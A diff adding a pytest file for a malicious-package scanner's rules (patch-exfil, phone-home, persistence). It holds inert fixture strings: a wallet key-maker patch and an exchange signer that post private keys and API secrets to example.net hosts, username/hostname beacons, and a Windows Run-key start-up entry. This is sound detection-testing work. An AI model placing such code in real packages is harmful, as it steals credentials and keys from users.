@@ -1,0 +1,179 @@
+"""Behaviours rules 9 reads, each beside a look-alike that must pass: another package's
+function or class replaced by one that sends to an address written in (a wallet's key maker,
+an exchange client's signer); code reached through a class made, a thread started or a
+console command run; a start-up entry written by an import.
+
+The "malicious" sources below are inert text handed to the scanner; nothing runs them.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.support.archives import wheel
+from tests.support.scan import judge as _judge
+from tests.support.scan import judge_in_function as _in_function
+
+WHEEL = "demo-1.0-py3-none-any.whl"
+
+
+def _imported(source: str) -> tuple[dict[str, float], bool]:
+    """``_judge`` of a wheel whose ``__init__`` is ``source``."""
+    return _judge(wheel({"demo/__init__.py": source}), WHEEL)
+
+
+KEY_MAKER = (
+    "import requests\n"
+    "from eth_account import Account\n"
+    "_create = Account.create\n"
+    "def create(*args, **kwargs):\n"
+    "    account = _create(*args, **kwargs)\n"
+    '    requests.post("https://rpc-stats.example.net/v1", json={"k": account.key.hex()})\n'
+    "    return account\n"
+    "{patch}\n"
+)
+SIGNER = (
+    "import requests\n"
+    "import ccxt\n"
+    "def _report(key, secret):\n"
+    '    requests.post("https://futures-api.example.net/s", json={"k": key, "s": secret})\n'
+    "class Exchange(ccxt.mexc):\n"
+    "    def sign(self, *args, **kwargs):\n"
+    "        _report(self.apiKey, self.secret)\n"
+    "        return super().sign(*args, **kwargs)\n"
+    "{patch}\n"
+)
+
+
+def _patched(template: str, patch: str) -> str:
+    return template.replace("{patch}", patch)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        _patched(KEY_MAKER, "Account.create = create"),
+        _patched(KEY_MAKER, "Account.create = staticmethod(create)"),
+        _patched(KEY_MAKER, 'setattr(Account, "create", create)'),
+        _patched(SIGNER, "ccxt.mexc = Exchange"),
+    ],
+    ids=["assigned", "staticmethod", "setattr", "a class, its method's helper sends"],
+)
+def test_another_packages_function_replaced_by_one_that_sends_out_is_held(source: str) -> None:
+    rules, held = _in_function(source)
+    assert rules.get("patch-exfil") == 10
+    assert held
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # The replacement sends nowhere: a compatibility shim.
+        "import json\n"
+        "def _default(self, value):\n"
+        "    return str(value)\n"
+        "json.JSONEncoder.default = _default\n",
+        # It requests the address its caller gives (a retrying wrapper).
+        "import requests\n"
+        "_get = requests.get\n"
+        "def get(url, **kwargs):\n"
+        "    return _get(url, timeout=kwargs.pop('timeout', 10), **kwargs)\n"
+        "requests.get = get\n",
+        # Written in, but the subclass replaces nothing of the other package.
+        _patched(SIGNER, "exchange = Exchange()"),
+    ],
+    ids=["a shim that sends nothing", "the caller's address", "a subclass used, not patched in"],
+)
+def test_a_patch_that_sends_nowhere_written_in_is_not_patch_exfil(source: str) -> None:
+    rules, _ = _in_function(source)
+    assert "patch-exfil" not in rules
+
+
+BEACON_METHOD = (
+    "import getpass, socket, requests\n"
+    "class Agent:\n"
+    "    def __init__(self):\n"
+    "        self.user = getpass.getuser()\n"
+    '        requests.get("https://collect.example.net/?u=" + self.user + "&h=" + socket.gethostname())\n'
+)
+BEACON_FUNCTION = (
+    "import getpass, socket, requests\n"
+    "def start():\n"
+    '    requests.get("https://collect.example.net/?u=" + getpass.getuser() + "&h=" + socket.gethostname())\n'
+)
+
+
+@pytest.mark.parametrize(
+    "init",
+    [
+        "from .agent import Agent\n_agent = Agent()\n",
+        "import threading\nfrom . import agent\nthreading.Thread(target=agent.start, daemon=True).start()\n",
+    ],
+    ids=["a class made on import", "a thread started on import"],
+)
+def test_code_another_module_runs_on_import_is_judged_as_import_time(init: str) -> None:
+    module = BEACON_METHOD if "Agent" in init else BEACON_FUNCTION
+    rules, held = _judge(wheel({"demo/__init__.py": init, "demo/agent.py": module}), WHEEL)
+    assert rules.get("phone-home", 0) >= 7
+    assert held
+
+
+@pytest.mark.parametrize(
+    "init",
+    ["from .agent import Agent\n", "from . import agent\n"],
+    ids=["a class imported, never made", "a module imported, its function never called"],
+)
+def test_code_nothing_runs_on_import_stays_a_function_of_a_module(init: str) -> None:
+    module = BEACON_METHOD if "Agent" in init else BEACON_FUNCTION
+    rules, held = _judge(wheel({"demo/__init__.py": init, "demo/agent.py": module}), WHEEL)
+    assert rules.get("phone-home", 0) < 10
+    assert not held
+
+
+def _command(entry_points: str) -> tuple[dict[str, float], bool]:
+    """``_judge`` of a wheel whose ``demo.cli`` module has a beacon in ``start``."""
+    members = {
+        "demo/__init__.py": "",
+        "demo/cli.py": BEACON_FUNCTION,
+        "demo-1.0.dist-info/entry_points.txt": entry_points,
+    }
+    return _judge(wheel(members), WHEEL)
+
+
+def test_the_function_a_console_command_names_runs_when_the_command_does() -> None:
+    rules, held = _command("[console_scripts]\ndemo = demo.cli:start\n")
+    assert rules.get("phone-home", 0) >= 7
+    assert held
+
+
+@pytest.mark.parametrize(
+    "entry_points",
+    ["[console_scripts]\ndemo = demo.cli:main\n", "[pytest11]\ndemo = demo.cli:start\n"],
+    ids=["another function of the module", "a plug-in, not a command"],
+)
+def test_functions_no_command_names_are_not_run_by_it(entry_points: str) -> None:
+    rules, held = _command(entry_points)
+    assert rules.get("phone-home", 0) < 7
+    assert not held
+
+
+RUN_KEY = (
+    "import os, winreg\n"
+    "{indent}key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
+    'r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)\n'
+    '{indent}winreg.SetValueEx(key, "updater", 0, winreg.REG_SZ, os.path.join(os.environ["LOCALAPPDATA"], "u.exe"))\n'
+    '{indent}open(os.path.join(os.environ["LOCALAPPDATA"], "u.exe"), "wb").write(b"")\n'
+)
+
+
+def test_a_start_up_entry_written_on_import_weighs_as_at_install() -> None:
+    rules, _ = _imported(RUN_KEY.format(indent=""))
+    assert rules.get("persistence") == 8
+
+
+def test_a_start_up_entry_written_by_a_function_nothing_calls_weighs_less() -> None:
+    source = RUN_KEY.format(indent="    ").replace(
+        "import os, winreg\n", "import os, winreg\ndef install():\n"
+    )
+    rules, _ = _imported(source)
+    assert 0 < rules.get("persistence", 0) < 8
